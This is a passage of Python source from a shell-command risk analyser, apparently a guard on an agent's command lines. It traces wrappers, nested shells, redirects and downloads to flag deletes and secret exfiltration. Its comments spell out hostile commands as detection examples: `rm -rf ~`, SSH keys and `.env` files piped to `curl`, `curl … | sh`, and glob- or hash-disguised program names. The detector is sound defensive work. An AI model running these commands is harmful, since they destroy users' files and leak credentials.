                    draft[0].runs_as.extend(self.finish(argv2, " ".join(argv2), _join_via(via, f"$({listers[0].argv[0]})"),
                                                        depth + 1, False, upstream=(listers[0].argv[0],))[:8])
            if prog in effects.DELETERS and len(listers) == 1 and listers[0].output is None:
                # `rm $(git ls-files)`, `files=$(find ~/x); rm $files`: what the lister prints is deleted
                lister = _as_find(listers[0].argv)
                if lister is not None:
                    self.listed_deleted(lister, draft[0], _join_via(via, f"$({listers[0].argv[0]})"), depth)
        for k, v in local_env.items():
            self.env_hook(k, v, via, depth, draft[0] if draft else None)
        inherited = self.inherited_env(local_env) if draft and self.exported else ()
        if inherited:
            draft[0].env = tuple(draft[0].env) + inherited
        if draft and local_env:
            draft[0].env = tuple(draft[0].env) + tuple(f"{k}={v}" for k, v in local_env.items())
            self.git_env_options(draft[0], local_env, via, depth)
        elif not draft and local_env:
            # `LD_PRELOAD=/x.so` with no command: an assignment statement
            for k, v in local_env.items():
                self.env[k] = v
        for r in node.named_children:
            if r.type == "file_redirect" and draft:
                self.file_redirect(r, draft[0], via, depth, sd)
            elif r.type == "herestring_redirect" and draft:
                self.herestring_into(draft[0], r, via, depth, sd)
        if draft and (node.parent is None or node.parent.type != "redirected_statement"):
            self.after_redirects(draft[0], via, depth)
        return draft

    def after_redirects(self, d: _Draft, via: str, depth: int) -> None:
        """What a command's redirects (its own and those `exec` left open) give it, once all are known."""
        if not d.argv:
            return
        if self.fds.table and d.argv[0] in ("read", "mapfile", "readarray"):
            n = _read_fd_option(d.argv[1:])
            hit = self.fds.opened(n, d.redirects) if n else None
            if hit is not None and hit[1] in fdlib.READS:
                self.apply_redirect(d, "<", hit[0], "", True, via, depth)  # `read -u 3 k` is `read k <&3`
        if self.fds.table or self.fd_substs:
            self.fd_defaults(d, via, depth)
        if d.argv[0] in ("read", "mapfile", "readarray") and len(self.var_drafts) < 256 and \
                any(r.op in ("<", "<>") and r.fd in ("", "0") and r.target for r in d.redirects):
            # `read -r k < .env; curl …/$k`: the variable holds what read read, as `k=$(cat .env)` does
            for name in [a for a in d.argv[1:] if _NAME.fullmatch(a)][-4:] or ["REPLY"]:
                self.var_drafts[name] = [d]

    def finish(self, argv: list[str], raw: str, via: str, depth: int, dynamic: bool,
               upstream: tuple[str, ...], args_dynamic: bool = False) -> list[_Draft]:
        """Unwrap, record, follow nested layers. Returns [the draft] (or [] for nothing)."""
        argv = [a for a in argv]
        while argv and argv[0] == "":
            argv.pop(0)
        if not argv:
            return []
        if argv[0] in self.hashed:
            argv[0] = self.hashed[argv[0]]  # `hash -p /bin/rm ls; ls -rf ~` runs rm
        if dynamic:
            d = _Draft(argv=argv, raw=raw, via=via, depth=depth, dynamic=True, upstream=list(upstream),
                       args_dynamic=args_dynamic)
            self.issue("dynamic-command", f"program name is computed at run time: {raw[:120]}", via)
            self.drafts.append(d)
            return [d]
        u = unwrap(tuple(argv))
        if u.bounded:
            self.issue("too-deep", f"more wrappers than adr peels off: {raw[:80]}", via)
        for w in u.own:
            if w[0] in effects.OUTPUT_WRITERS:
                self.add_effects(effects.output_writes(w[0], w[1:]), w[0], via)  # `strace -o ~/.bashrc CMD`
        if u.chdir and u.argv and not u.shell_strings and len(self.layers) < 64:
            # `env -C ~ rm -rf .ssh`: the command runs in that directory, as after `cd DIR &&`
            line = "cd " + _word(u.chdir) + " && " + " ".join(_sh_quote(a) for a in u.argv)
            made = self.nested_shell(line, via, depth, f"{u.wrappers[-1] if u.wrappers else 'env'} chdir")
            for m in made:
                if u.sudo:
                    m.sudo, m.sudo_user = True, m.sudo_user or u.sudo_user
                m.wrappers = list(u.wrappers) + [w for w in m.wrappers if w not in u.wrappers]
            return made
        if u.argv[:1] in (("",), [""]) and len(u.argv) > 1 and u.wrappers and len(self.layers) < 64:
            # `exec $(true) rm -rf ~`: the wrapper's program word expanded to nothing — the next word is it
            made = self.finish(list(u.argv[1:]), raw, via, depth, dynamic, upstream, args_dynamic)
            for m in made:
                if u.sudo:
                    m.sudo, m.sudo_user = True, m.sudo_user or u.sudo_user
                m.wrappers = list(u.wrappers) + [w for w in m.wrappers if w not in u.wrappers]
            return made
        if not u.argv and not u.shell_strings:
            d = _Draft(argv=[argv[0]], raw=raw, via=via, depth=depth, dynamic=dynamic,
                       sudo=u.sudo, sudo_user=u.sudo_user, wrappers=u.wrappers)
            self.drafts.append(d)
            return [d]
        if not u.argv:
            d = _Draft(argv=[u.wrappers[-1] if u.wrappers else argv[0]], raw=raw, via=via, depth=depth,
                       sudo=u.sudo, sudo_user=u.sudo_user, wrappers=u.wrappers)
            self.drafts.append(d)
            for s in u.shell_strings:
                made = self.nested_shell(s, via, depth, f"{d.argv[0]} -c", inherit=d)
                if "parallel" in u.wrappers or "xargs" in u.wrappers:
                    d.runs_as.extend(made[:8 - len(d.runs_as)])  # its jobs print what it prints
            return [d]
        d = _Draft(argv=list(u.argv), raw=raw, via=via, depth=depth,
                   sudo=u.sudo, sudo_user=u.sudo_user, wrappers=u.wrappers, program_path=u.program_path,
                   upstream=list(upstream), args_dynamic=args_dynamic)
        if d.argv[0] == "rm" and args_dynamic and "$" in raw:
            self.unset_rooted_delete(d, raw, via)
        if u.wrappers and args_dynamic and ("$" in d.argv[0] or "`" in d.argv[0]) and d.argv[0] not in ("$@", "$*") \
                and u.wrappers[-1] not in ("xargs", "parallel") \
                and not (u.wrappers[-1] == "env" and len(d.argv) > 1 and not d.argv[1].startswith("-")):
            # `exec $X -c …`, `nohup "$p" …`, `timeout 5 $X …`: the program a wrapper runs is computed at
            # run time, as a computed first word is. (Not `env $(cat .env | xargs) rails`, whose computed
            # word is assignments before a program; nor xargs's `$CMD`, which takes the input as its words.)
            d.dynamic = True
            self.issue("dynamic-command", f"program name is computed at run time: {raw[:120]}", via)
        if u.env:
            d.env = u.env  # `env TF_CLI_ARGS=-auto-approve terraform destroy`: as a prefix assignment
        if (" " in d.argv[0] or "\t" in d.argv[0] or "\n" in d.argv[0]) and len(d.argv[0]) <= 4096 \
                and d.argv[0].split():
            # `time ${x:-rm -rf ~ ; }c`, `nohup ${x:-curl URL} | sh`: a program word that holds blanks — an
            # unquoted expansion's value, which bash splits into the program and its first arguments — is
            # judged split, where it stands (no program has blanks in its name)
            d.argv = d.argv[0].split()[:256] + d.argv[1:]
        if any(ch in d.argv[0] for ch in "*?[") and d.argv[0] not in ("[", "[["):
            # `/???/???/c?rl`: the shell expands the glob to a real program
            hit = glob_program(d.argv[0])
            if hit:
                self.issue("glob-command", f"program name is a glob pattern: {d.program_path or d.argv[0]}"
                           f" (matches {hit})", via)
                d.argv[0] = hit
        self.drafts.append(d)
        if self.printed_to and d.argv[0] in _PASS_FILTERS:
            for a in d.argv[1:8]:
                # `which git > /tmp/p; cp evil "$(cat /tmp/p)"`: cat prints what which printed
                d.passes.extend(self.printed_to.get(_plain_path(a), ()))
        self.follow(d, via, depth)
        for s in u.shell_strings:
            self.nested_shell(s, via, depth, "su -c", inherit=d)
        if ("xargs" in d.wrappers or "parallel" in d.wrappers) and d.argv and "{}" in d.argv[0]:
            # `ls ~/.local/bin/ad* | xargs -I{} {} approve q1`: the program is whatever xargs reads
            self.issue("dynamic-command", f"xargs runs what it reads as the program: {d.raw[:80]}", via)
        if "xargs" in d.wrappers or "parallel" in d.wrappers:
            listed = _arg_file(argv)
            if listed is not None:
                self.computed_operands(d, "<" + listed, via)  # `xargs -a list.txt rm -rf`
                # the command xargs runs reads that file's words (`xargs -a ~/.ssh/id_rsa -I{} curl …/{}`)
                if not any(r.op == "<" and r.target == listed for r in d.redirects):
                    d.redirects.append(Redirect("<", listed))
                # `xargs -a <(ls) cat`, `ls > /tmp/l; xargs -a /tmp/l cat`
                self.ls_fed_reader(d, self.procsub_drafts.get(listed) or self.printed_to.get(_plain_path(listed), []), via)
                if _runs_items_as_code(d):
                    # `xargs -a cmds.txt -I{} sh -c {}`: each line of the file runs, as `sh cmds.txt` would
                    self.nested_shell(f"sh {_sh_quote(listed)}", via, depth, "xargs -a", inherit=d)
        return [d]

    def git_env_options(self, d: _Draft, env: "dict[str, str]", via: str, depth: int) -> None:
        """GIT_CONFIG_COUNT/KEY_n/VALUE_n and GIT_CONFIG_PARAMETERS on `git`: `-c KEY=VALUE` by environment."""
        if d.argv and d.argv[0] == "git" and any(k.startswith("GIT_CONFIG_") for k in env):
            for cmd in _option_commands("git", _git_env_config(env)):
                self.nested_shell(cmd, via, depth, "git option", inherit=d)
            self.git_alias_call(d, via, depth, env)

    def read_into(self, d: _Draft) -> None:
        """read [-r] NAME <<< WORD: NAME holds the first line (`read -r h <<< "$HOME"; rm -rf "$h"`)."""
        args = d.argv[1:]
        names = [a for a in args if _NAME.fullmatch(a)]
        if len(names) == 1 and d.stdin_text is not None and \
                not any(a in ("-a", "-d", "-n", "-N", "-p", "-t", "-u") for a in args):
            self.env[names[0]] = d.stdin_text.split("\n", 1)[0]
            self.var_alias.pop(names[0], None)
            self.hooked_set(names[0], d)  # `read LD_PRELOAD <<< /tmp/x.so`

    def hooked_set(self, name: str, d: _Draft) -> None:
        """An environment-style variable given a value by a command rather than by `NAME=value`
        (`printf -v LD_PRELOAD /tmp/x.so`, `read HISTFILE <<< /dev/null`): judged as that assignment
        is — every loader, startup and shell-variable rule then sees it (a layer of its own)."""
        value = self.env.get(name, "")
        if _ENV_NAME.fullmatch(name) and value and len(self.layers) < 64:
            self.nested_shell(f"{name}={_sh_quote(value)}", d.via, d.depth, f"${name} set by {d.argv[0]}", inherit=d)

    def unset_rooted_delete(self, d: _Draft, raw: str, via: str) -> None:
        """`rm -rf "$BUILD_DIR"/*`, `rm -rf $PREFIX/`: a recursive delete of a path that is a variable the
        line does not set (and no guard `${X:?}` or default `${X:-d}` protects) — empty or unset, the
        shell deletes from the root. Reported as an issue (adr does not see the agent's environment)."""
        if not any(a in ("-r", "-R", "--recursive") or re.fullmatch(r"-[a-zA-Z]*[rR][a-zA-Z]*", a) for a in d.argv[1:]):
            return
        source = self.src_stack[0][:65536].decode("utf-8", "replace") if self.src_stack else raw
        if re.search(r"(?:^|[\s;&|(])(?:source|\.|eval|set\s+-a)\s", source):
            return  # (a file the line sources or text it evaluates may set it: the cross-call walk reads those)
        for m in _UNSET_ROOTED.finditer(raw[:4096]):
            name = m.group(1)
            if name in self.env or name in LIKELY_SET or name in ("HOME", "PWD", "IFS"):
                continue
            if re.search(r"\b(?:read|mapfile|readarray|getopts|for|select|local|declare|typeset|export|readonly)\b"
                         r"[^;&|\n]*\b" + name + r"\b|\b" + name + r"\+?=", source):
                continue  # (a loop's, read's or declaration's variable: the line sets it)
            self.issue("unset-rooted-delete", f"deletes from the root if ${name} is empty: {raw[:120]}", via)
            return

    def hand_offs(self) -> None:
        """A file written on the line and then sent away on the same line is judged as the pipe it
        amounts to: `cp .env /tmp/n && curl -d @/tmp/n URL` as `cat .env | curl -d @- URL`, `env >
        /tmp/e; curl -T /tmp/e URL` as `env | curl -T - URL`, `tar czf /tmp/k.tgz ~/.ssh && curl -T
        /tmp/k.tgz URL` as `tar c ~/.ssh | curl -T - URL` — so the rules on secrets piped into a
        network client see them. Paths are compared as written."""
        made: dict[str, str] = {}
        prev: "_Draft | None" = None
        pipe: list[_Draft] = []  # the pipeline so far: `cat KEY | base64 > f` puts into f what cat KEY | base64 prints
        for d in list(self.drafts)[:256]:
            if not d.argv:
                continue
            prog, args = d.argv[0], d.argv[1:]
            for f, sender in files_sent(prog, args, d.redirects, d.stdin_text):
                for producer in _made_into_sent(made, _plain_path(f))[:4]:
                    if len(self.layers) < 64:
                        self.nested_shell(producer + " | " + sender, d.via, 0, "a file written and sent on the same line")
            for f, reader in files_read_back(prog, args, d.redirects, d.wrappers) if made else ():
                producer = made.get(_plain_path(f))
                if producer is not None and len(self.layers) < 64:
                    self.nested_shell(producer + " | " + reader, d.via, 0, "a file written and read back on the same line")
            if made and any("$(" in a or "`" in a for a in args):
                # `brew list > /tmp/l; brew uninstall $(cat /tmp/l)`: the words are what the producer printed
                words = read_back_words(args, lambda f: made.get(_plain_path(f)))
                if words != list(args) and len(self.layers) < 64:
                    self.nested_shell(" ".join([_word(prog)] + [a if "$(" in a else _word(a) for a in words]), d.via, 0,
                                      "a file written and read back on the same line")
            if not (d.piped and prev is not None and prev.via == d.via and prev.depth == d.depth):
                pipe = []
            # (spelled only for a stage whose output goes to a file: most pipelines write none)
            feed = " | ".join(" ".join(_word_computed(a, self.code_assign) for a in x.argv) for x in pipe[-16:]) \
                if pipe and (prog == "tee" or any(r.op in (">", ">>", ">|", "&>", "&>>") for r in d.redirects)) else ""
            pipe.append(d)
            prev = d
            for target, producer in files_made(prog, args, d.redirects, feed, computed=self.code_assign):
                m = _CAT_ONE.fullmatch(producer)
                if m and _plain_path(m.group(1)) in made:
                    # `cp .env /tmp/e && cp /tmp/e /tmp/f` (or gzip, mv on): /tmp/f holds what /tmp/e was made from
                    producer = made[_plain_path(m.group(1))]
                made[_plain_path(target)] = producer

    def nested_shell(self, text: str, via: str, depth: int, label: str, inherit: _Draft | None = None,
                     upstream: tuple[str, ...] = (), params: "list[str] | None" = None) -> list[_Draft]:
        saved_env = dict(self.env)
        env = dict(self.env)
        if inherit is not None:
            # `X='rm -rf ~' bash -c 'eval "$X"'`, `env X=… sh -c …`: the command's own assignments are the
            # nested shell's variables
            own = [kv.partition("=") for kv in inherit.env[:32]] + [(k, "=", v) for k, v in list(self.prefix_env.items())[:32]]
            for k, eq, v in own:
                if eq and _ENV_NAME.fullmatch(k) and len(v) <= MAX_ASSIGNED_VALUE:
                    env[k] = v
        if params is not None:
            # `sh -c 'rm -rf "$1"' _ ~`: the words after the script are $0, $1 … (and "$@" the rest)
            for k in [k for k in env if k.isdigit() or k in ("@", "*", "#")]:
                del env[k]
            for n, v in enumerate(params[:10]):
                env[str(n)] = v
            env["@"] = env["*"] = " ".join(params[1:])
            env[_ARGV_KEY] = "\0".join(params[1:])
            env["#"] = str(max(len(params) - 1, 0))
        made = self.layer(text, _join_via(via, label), depth + 1, env=env, upstream=upstream)
        if len(text) <= MAX_SOURCE and not self.stopped:
            # (`zsh -c 'curl … | =sh'`: a nested layer read as zsh reads it too, as the line is)
            zsh, over = _zsh_spelling(text)
            if over:
                self.issue("too-many-commands", f"zsh forms in more than {MAX_ZSH_SITES} places", via)
            if zsh is not None and self._charge(1 + len(zsh) // 4096):
                made = made + self.layer(zsh, _join_via(via, label + " as zsh reads it"), depth + 1, env=dict(env),
                                         upstream=upstream)
        self.env = saved_env
        if inherit is not None:
            n = len(upstream)
            inherit.stdin_heirs.extend(
                m for m in made[:64] if m is not inherit and len(m.upstream) == n and m.stdin_text is None
                and not any(r.op in ("<", "<>", "<<<") and r.fd in ("", "0") for r in m.redirects))
        if inherit is not None and inherit.sudo:
            for m in made:
                m.sudo = True
                m.sudo_user = m.sudo_user or inherit.sudo_user
        return made

    def inherited_env(self, local: "dict[str, str] | list[str] | tuple[str, ...]") -> tuple[str, ...]:
        """`export TF_CLI_ARGS=-auto-approve; terraform destroy`: what an earlier export hands a later
        command (only the variables rules and tool-file readers look at: a line's whole environment is not
        copied), as NAME=value words; `local`: the command's own prefix (it wins)."""
        own = {kv.partition("=")[0] for kv in local} if not isinstance(local, dict) else local
        return tuple(f"{k}={v}" for k, v in self.env.items() if k in self.exported and k not in own
                     and (k in FILE_ENVS or _INHERITED_ENV.fullmatch(k)))

    def runner_layer(self, text: str, d: _Draft, via: str, depth: int, label: str) -> None:
        """What a runner starts (`npx lefthook run x`, `uv run ansible-playbook p.yml`), with the
        variables the runner was given that rules and tool-file readers look at (`LEFTHOOK_CONFIG=x.yml
        npx lefthook`, `env ANSIBLE_ROLES_PATH=/tmp/r uv run …`): the runner hands its environment on."""
        given = {**dict(e.partition("=")[::2] for e in d.env if "=" in e), **self.prefix_env}
        carried = {k: v for k, v in given.items() if k in FILE_ENVS or _INHERITED_ENV.fullmatch(k)}
        if not carried:
            self.nested_shell(text, via, depth, label, inherit=d)
            return
        saved_env, saved_exported = dict(self.env), set(self.exported)
        self.env.update(carried)
        self.exported.update(carried)
        try:
            self.nested_shell(text, via, depth, label, inherit=d)
        finally:
            self.env, self.exported = saved_env, saved_exported

    @staticmethod
    def heirs_fed(feeders: "list[_Draft]", target: _Draft) -> None:
        """The commands feeding `target`'s stdin feed the readers of its `-c` script too (downstream)."""
        names = [h.argv[0] for h in target.stdin_heirs[:8] if h.argv]
        for f in feeders if names else ():
            f.downstream.extend(n for n in names if n not in f.downstream)

    def _stage_programs(self, stage: list[_Draft]) -> list[str]:
        """The programs a pipeline stage hands on to the stages after it: its own, and for a reader of
        process substitutions (`cat <(curl …) | sh`) the programs whose output it prints."""
        out = []
        for d in stage:
            if not d.argv:
                continue
            out.append(d.argv[0])
            # what xargs/parallel run in its place print what it prints (`parallel {1} {2} ::: curl ::: URL | sh`)
            out.extend(m.argv[0] for m in d.runs_as[:8] if m.argv)
            if d.scripts_at and any(i < len(self.scripts) and netprogs.NET_CODE.search(self.scripts[i].code[:65536])
                                    for i in d.scripts_at):
                # interpreter code that fetches (`python3 -c 'print(urlopen(URL).read())' | sh`): a download
                out.append("fetch")
            if d.argv[0] in FILE_READERS and self.procsub_drafts:
                for a in d.argv[1:17]:
                    for p in self.procsub_drafts.get(a, ()):
                        out.append(p.argv[0])
                        out.extend(p.upstream[:8])
        return out

    def take_seen(self, target: _Draft, text: str, depth: int) -> None:
        """`text` is a part of what reaches `target`'s stdin (the rest unknown): judged as seen, and
        what it prints from it is only a part of its output too (`(date; echo x) | cat | sh` still runs
        what date prints)."""
        self.feed_seen(target, text, depth)
        self.pass_stdin(target, text=text, seen_only=True)

    def feed_seen(self, target: _Draft, text: str, depth: int) -> None:
        target.stdin_seen = text
        before = target.output
        self.feed(target, text, depth)
        if before is None and target.output is not None:
            target.output_seen, target.output = target.output, None

    def pass_stdin(self, target: _Draft, feeders: "list[str]" = (), text: "str | None" = None,
                   path: str = "", depth: int = 0, hops: int = 0, seen_only: bool = False) -> None:
        """What feeds `target`'s stdin feeds the commands of its `-c` script that read it (stdin_heirs):
        their upstream programs, the text (or, seen_only, a part of it: stdin_seen), or the file
        redirected in."""
        if hops > 4:
            return
        for h in target.stdin_heirs[:64]:
            if feeders:
                h.upstream.extend(f for f in feeders if f not in h.upstream)
            if text is not None and h.stdin_text is None and not (seen_only and h.stdin_seen is not None):
                if seen_only:
                    self.feed_seen(h, text, h.depth)
                else:
                    h.stdin_text = text
                    self.feed(h, text, h.depth)
            if path:
                h.redirects.append(Redirect("<", path))
            self.pass_stdin(h, feeders, text, path, depth, hops + 1, seen_only)

    def curl_config(self, d: _Draft, text: str, via: str, depth: int) -> None:
        """`curl -K FILE` / `-K -` / `-K <(…)` with a config this line shows (`request = DELETE`, `data =
        "@~/.ssh/id_rsa"`): judged as curl with those options spelled on its command line."""
        opts = _curl_config_args(text)
        if not opts:
            return
        rest, skip = [], False
        for a in d.argv[1:]:
            if skip:
                skip = False
            elif a in ("-K", "--config"):
                skip = True
            elif not a.startswith(("--config=", "-K")):
                rest.append(a)
        line = " ".join(_sh_quote(a) for a in [d.argv[0]] + opts + rest)
        self.nested_shell(line, via, depth, f"{d.argv[0]} -K config", inherit=d)

    def follow(self, d: _Draft, via: str, depth: int) -> None:
        """Program-specific layers: sh -c, eval, source, interpreters, find -exec, literal output."""
        prog = d.argv[0]
        args = d.argv[1:]
        if prog in ("cd", "pushd", "popd"):
            to = next((a for a in args if not a.startswith("-")), "~" if prog == "cd" else "")
            self.cd_root = to if to.startswith(("/", "~")) else (
                self.cd_root.rstrip("/") + "/" + to if self.cd_root and to and "$" not in to and prog != "popd" else "")
        if prog in _SQL_FILE_OPTIONS and d.stdin_text is None and (
                prog != "wrangler" or "d1" in args[:6] and "execute" in args[:8]):
            # `psql -f <(echo 'DROP TABLE x')`, `echo … > q.sql; psql -f q.sql`: the statements the line shows
            opts = _SQL_FILE_OPTIONS[prog]
            f = next((args[k + 1] for k, a in enumerate(args[:-1]) if a in opts), None) or \
                next((a.split("=", 1)[1] for a in args if "=" in a and a.split("=", 1)[0] in opts), None)
            if f is None and prog in ("mongosh", "mongo"):
                # `mongosh prod wipe.js`: a .js operand is a script the shell runs
                f = next((a for k, a in enumerate(args) if a.endswith(".js") and not a.startswith("-")
                          and (k == 0 or args[k - 1] != "--eval")), None)
            text = None if f is None else self.procsubs.get(f) if f in self.procsubs else self.written_content(f)
            if text:
                d.stdin_text = text
        if prog == "git" and len(d.redirects) < 64:
            for f in _git_file_reads(list(args))[:8]:
                # `git diff --no-index /dev/null ~/.aws/credentials > notes.md`, `git hash-object -w
                # ~/.ssh/id_rsa`: git prints or stores the file's content, as `cat < F` would
                if not any(r.op == "<" and r.target == f for r in d.redirects):
                    d.redirects.append(Redirect("<", f))
        if prog in _FILE_URL_READERS:
            for a in args[:64]:
                if a[:7].lower() == "file://" and len(d.redirects) < 64:
                    # `curl -s file:///home/u/.ssh/id_rsa | curl -d @- …`: a file:// URL is a read of the
                    # file, as `cat < F` (its output — or the -o copy — is the file)
                    path = unquote(a[7:].split("?", 1)[0].split("#", 1)[0])
                    path = path[len("localhost"):] if path.startswith("localhost/") else path
                    if path and not any(r.op == "<" and r.target == path for r in d.redirects):
                        d.redirects.append(Redirect("<", path))
        if prog in ("curl", "curlie") and depth < MAX_LAYERS:
            cfg = next((args[k + 1] for k, a in enumerate(args[:-1]) if a in ("-K", "--config")), None) \
                or next((a.split("=", 1)[1] for a in args if a.startswith("--config=")), None) \
                or next((a[2:] for a in args if a.startswith("-K") and len(a) > 2), None)
            text = None if cfg in (None, "-") else self.procsubs.get(cfg) if cfg in self.procsubs else self.written_content(cfg)
            if text:
                self.curl_config(d, text, via, depth)
        if prog in DOWNLOADERS or prog in REMOTE_COPIERS:
            url = next((a for a in args if "://" in a), None)
            targets = [t for t, _ in download_targets(prog, args)] if prog in DOWNLOADERS \
                else _remote_copy_targets(prog, args)
            for target in targets:
                self.downloaded[_plain_path(target)] = prog
                # the file is written (content from the network): `curl -o ~/.bashrc URL` is a write
                self.add_effects([effects.Effect("write", target)], prog, via)
                if url:
                    self.download_urls[_plain_path(target)] = url
        self.mark_runs_downloaded(d)
        if self.download_urls and prog in _INSTALLERS:
            # `curl -o x.whl URL && pip install x.whl`: the same install as `pip install URL`
            swapped = [self.download_urls.get(_plain_path(a), a) for a in d.argv]
            if swapped != d.argv:
                self.finish(swapped, " ".join(swapped), _join_via(via, "downloaded file"), depth + 1, False, ())
        if d.program_path:
            content = self.written_content(d.program_path)
            if content is not None:
                # ./x.sh written earlier in this same command line: judge what it holds
                self.nested_shell(content, via, depth, f"script {d.program_path}", inherit=d)
        for a in args:
            if "://" in a:  # (cheap pre-check: every URL the regex finds has one)
                for m in _URL_RE.finditer(a):
                    if len(self.urls) < 64:
                        self.urls.append(m.group(0))
        if prog in launchers.LAUNCHERS:
            for f, lang in launchers.launched(prog, args):
                content = self.written_content(f)
                if content is not None:  # `echo … > x.command; open x.command`: the desktop runs it
                    if lang != "app":  # (a bundle is a folder: runs.py reads its executable)
                        self.nested_shell(launchers.as_shell(lang, content), via, depth, f"{prog} {f}", inherit=d)
        body = self.functions.get(prog) if not d.program_path else None
        if body is not None and len(self.layers) < 64 and f"function {prog}" not in via:
            # `f(){ curl "$@"; }; cat KEY | f -d @- URL`: the body with the call's words and stdin (not
            # again inside its own body: a recursive call is the same text)
            made = self.nested_shell(body, via, depth, f"function {prog}", inherit=d, upstream=tuple(d.upstream),
                                     params=[prog, *args])
            d.word_heirs.extend(made[:16])
        if prog in SHELLS:
            script = _shell_c_arg(args)
            if script is not None:
                after = args[args.index(script) + 1:] if script in args else []
                made = self.nested_shell(script, via, depth, f"{prog} -c", inherit=d, upstream=tuple(d.upstream),
                                         params=after if after else None)
                if after:
                    d.word_heirs.extend(made[:16])
                return
            file_arg = _first_positional(args)
            if file_arg is not None:
                content = self.written_content(file_arg)
                if content is None:
                    content = self.procsubs.get(file_arg)
                if content is not None:
                    self.nested_shell(content, via, depth, f"script {file_arg}", inherit=d)
                else:
                    self.unknown_procsub(d, file_arg, via)
            return
        if prog in ("fd", "fdfind") and any(a in ("-x", "--exec", "-X", "--exec-batch") for a in args):
            # `fd PATTERN PATH -x CMD`: CMD runs on what fd finds — judged as the find that does the same
            self.nested_shell(_fd_as_find(list(args)), via, depth, f"{prog} --exec", inherit=d)
            return
        if prog == "eval":
            before = len(self.issues)
            self.nested_shell(" ".join(args), via, depth, "eval", inherit=d)
            if d.args_dynamic:
                # one unknown, one finding: what the evaluated text computes is the eval-dynamic issue
                # (with its exceptions for environment set-up tools), not a second dynamic-command
                self.issues[before:] = [i for i in self.issues[before:] if i.kind != "dynamic-command"]
                self.issue("eval-dynamic", f"eval of a value known only at run time: {d.raw[:120]}", via)
            return
        if prog in _NAME_LIST_READERS:
            # `file -f LIST`: every line of LIST is printed back (as a name it could not open) — a read
            # of LIST as `cat < LIST` is
            opts = _NAME_LIST_READERS[prog]
            for k, a in enumerate(args[:-1]):
                if a in opts and len(d.redirects) < 64:
                    d.redirects.append(Redirect("<", args[k + 1]))
        if prog in _NAMES_FROM_LIST and "names listed for" not in via:
            # `ls ~/.ssh/id_* > /tmp/l; tar czf - -T /tmp/l | curl -T - URL`: the listed files are read and sent
            for f in _list_files(prog, list(args)):
                if f != "-":
                    self.names_listed(d, self.procsub_drafts.get(f) or self.printed_to.get(_plain_path(f), []), via)
        if prog in effects.OUTPUT_WRITERS:
            self.add_effects(effects.output_writes(prog, args), prog, via)
        if prog in _EFFECT_TOOLS:
            self.add_effects(effects.tool_effects(prog, args), prog, via)
        elif prog == "git":
            self.git_remote(d)
            self.git_alias_call(d, via, depth)
        elif prog in _CONTAINER_TOOLS:
            inner = _container_command(prog, list(args))
            if inner:
                # docker run/exec, kubectl exec/run, podman, lxc, multipass: the command runs (in a
                # container or VM, with the network and whatever is mounted) — judge it, with the
                # container's paths of bind mounts spelled as the host's (`-v ~:/h … cat /h/.aws/x`)
                made = self.nested_shell(_host_view(prog, list(args), inner), via, depth, f"{prog} {args[0]}", inherit=d)
                d.runs_as.extend(made[:8 - len(d.runs_as)])  # what it prints comes out here (`docker run … wget -O- URL | sh`)
        opt_args = list(args)
        if prog == "git" and (self.env.get("GIT_CONFIG_COUNT") or self.env.get("GIT_CONFIG_PARAMETERS")):
            # exported earlier on the line (a prefix on the command itself is read where it is set)
            opt_args = _git_env_config(self.env) + opt_args
        for cmd in _option_commands(prog, opt_args):
            self.nested_shell(cmd, via, depth, f"{prog} option", inherit=d)
        if prog in _VIMS and sum(a in ("-c", "--cmd") or a.startswith("+") for a in args) > MAX_VIM_COMMANDS:
            self.issue("too-large", f"more editor commands than adr reads: {d.raw[:80]}", via)
        if prog in escapes.PROGRAMS:
            # `sqlite3 x.db '.shell rm -rf ~'`, `psql -c '\! …'`, `gdb -ex 'shell …'`: the program's own shell escape
            for cmd in escapes.option_escapes(prog, args):
                self.nested_shell(cmd, via, depth, f"{prog} shell escape", inherit=d)
            self.add_effects([effects.Effect("write", f) for f in escapes.option_writes(prog, args)], prog, via)
        ran = runner_command(d.argv)
        if ran is not None:
            # `uv run X`, `conda run -n e X`, `npx rimraf ~`, `nix-shell --run 'X'`, `gdb --args X`: X runs too
            how, what = ran
            text = what[0] if how == "shell" else " ".join(_sh_quote(a) for a in what)
            self.runner_layer(text, d, via, depth, f"{prog} runs")
        if prog in ("puppet", "chef-apply"):
            # `puppet apply -e 'exec {…: command => "CMD"}'`, `chef-apply -e 'execute "CMD"'` (or a manifest
            # written earlier on the line): the commands its resources run
            found = configdsl.inline_commands(prog, list(args))
            manifest = configdsl.manifest_file(prog, list(args)) if found is None else None
            text = self.written_content(manifest[1]) if manifest else None
            if manifest and text is not None:
                found = configdsl.commands_of(manifest[0], text)
            for cmd in found or ():
                self.nested_shell(cmd, via, depth, f"{prog} resource", inherit=d)
        if prog == "trap" and args and args[0] not in ("-l", "-p"):
            self.nested_shell(args[0], via, depth, "trap handler", inherit=d)
            return
        if prog == "ssh":
            remote = _ssh_remote_command(args)
            if remote:
                made = self.nested_shell(remote, via, depth, "ssh remote command", inherit=None)
                self.remote_commands(made)
                d.runs_as.extend(made[:8 - len(d.runs_as)])  # its output comes back here (`ssh h curl URL | sh`)
            return
        if prog in fleet.FLEET_PROGRAMS:
            remote = fleet.remote_command(prog, list(args))
            if remote:
                self.remote_commands(self.nested_shell(remote, via, depth, f"{prog} remote command", inherit=None))
        if prog == "hash" and "-p" in args and not d.args_dynamic:
            # `hash -p /bin/rm ls`: from now on `ls` runs /bin/rm (bash looks the name up in its table)
            k = args.index("-p")
            if k + 2 < len(args) + 1 and k + 1 < len(args):
                for name in [a for a in args[k + 2:] if not a.startswith("-")][:8]:
                    self.hashed[name] = args[k + 1]
            return
        if prog in ("cp", "ln", "install", "mv") and len(self.hashed) < 32:
            copied = _program_copied(prog, args)
            if copied is not None:
                # `ln -s "$(command -v rm)" ./cleanup; ./cleanup -rf ~`: the copy runs that program
                dst, program = copied
                for spelling in (dst, "./" + dst) if "/" not in dst else (dst,):
                    self.hashed[spelling] = program
        if prog == "alias":
            # the body runs whenever the alias is used; judge it, but a run-time value in a
            # definition ($EDITOR) is ordinary, not an unresolved execution
            for a in args:
                name, eq, body = a.partition("=")
                if eq and body:
                    before = len(self.issues)
                    self.nested_shell(body, via, depth, f"alias {name}", inherit=d)
                    self.issues[before:] = [i for i in self.issues[before:]
                                            if i.kind not in ("dynamic-command", "eval-dynamic")]
            return
        if (prog == "history" and len(args) > 1 and args[0] in ("-r", "-n") or prog == "fc" and len(args) > 1
                and args[0] == "-R") and not args[1].startswith("-"):
            # `history -r F; fc -s` (zsh: `fc -R F; r`): F's lines become entries that fc/!!/r re-run —
